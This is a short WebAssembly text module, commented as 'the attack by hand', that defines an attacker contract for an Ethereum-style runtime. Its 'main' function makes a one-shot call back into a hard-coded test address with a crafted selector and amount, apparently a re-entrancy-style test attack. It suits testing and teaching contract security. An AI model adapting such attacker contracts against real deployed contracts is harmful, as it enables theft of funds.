;; The attack by hand.
(module $attacker
  (import "ethereum" "call" (func $eth_call (param i64 i32 i32 i32 i32) (result i32)))
  (import "ethereum" "revert" (func $eth_revert (param i32 i32)))
  (import "storage" "memory" (memory $storage 1))
  (memory $memory (export "memory") 3)

  (func $require (param $condition i32)
    (if (i32.eqz (local.get $condition))
      (then (call $eth_revert (i32.const 0) (i32.const 0)))))

  (func $_be_set (param $at i64) (param $n i64) (param $x i64)
    (local $i i64)
    (local.set $i (i64.sub (local.get $n) (i64.const 1)))
    (block $end43
      (loop $again43
        (br_if $end43 (i32.eqz (i64.ge_s (local.get $i) (i64.const 0))))
        (i64.store8 $memory (i32.wrap_i64 (i64.add (local.get $at) (local.get $i))) (i64.and (local.get $x) (i64.const 255)))
        (local.set $x (i64.shr_u (local.get $x) (i64.const 8)))
        (local.set $i (i64.sub (local.get $i) (i64.const 1)))
        (br $again43))))

  (func $_send (param $who i64) (param $amount i64) (param $data i64) (param $length i64) (result i64)
    (call $_to (local.get $who))
    (i64.store $memory (i32.const 32) (local.get $amount))
    (i64.store $memory (i32.const 40) (i64.const 0))
    (return (i64.extend_i32_u (call $eth_call (i64.const 9223372036854775807) (i32.const 0) (i32.const 32) (i32.wrap_i64 (local.get $data)) (i32.wrap_i64 (local.get $length))))))

  (func $_to (param $who i64)
    (local $i i64)
    (i64.store $memory (i32.const 0) (i64.const 0))
    (i64.store $memory (i32.const 8) (i64.const 0))
    (i64.store32 $memory (i32.const 16) (i64.const 0))
    (local.set $i (i64.const 19))
    (block $end19
      (loop $again19
        (br_if $end19 (i32.eqz (i64.ge_s (local.get $i) (i64.const 12))))
        (i64.store8 $memory (i32.wrap_i64 (local.get $i)) (i64.and (local.get $who) (i64.const 255)))
        (local.set $who (i64.shr_u (local.get $who) (i64.const 8)))
        (local.set $i (i64.sub (local.get $i) (i64.const 1)))
        (br $again19))))

  (func $main (export "main")
    (local $n i64)
    (if (i64.gt_s (i64.load $storage (i32.const 0)) (i64.const 0))
      (then
        (local.set $n (i64.load $storage (i32.const 0)))
        (i64.store $storage (i32.const 0) (i64.const 0))
        (i64.store8 $memory (i32.const 160) (i64.const 2))
        (call $_be_set (i64.const 161) (i64.const 8) (local.get $n))
        (i64.store $memory (i32.const 169) (i64.const 0))
        (i64.store32 $memory (i32.const 177) (i64.const 0))
        (call $_be_set (i64.const 181) (i64.const 8) (i64.const 1))
        (call $require (i64.eq (call $_send (i64.const 32) (i64.const 0) (i64.const 160) (i64.const 29)) (i64.const 0))))))

  (func $arm (export "arm") (param $x i64)
    (i64.store $storage (i32.const 0) (local.get $x))))
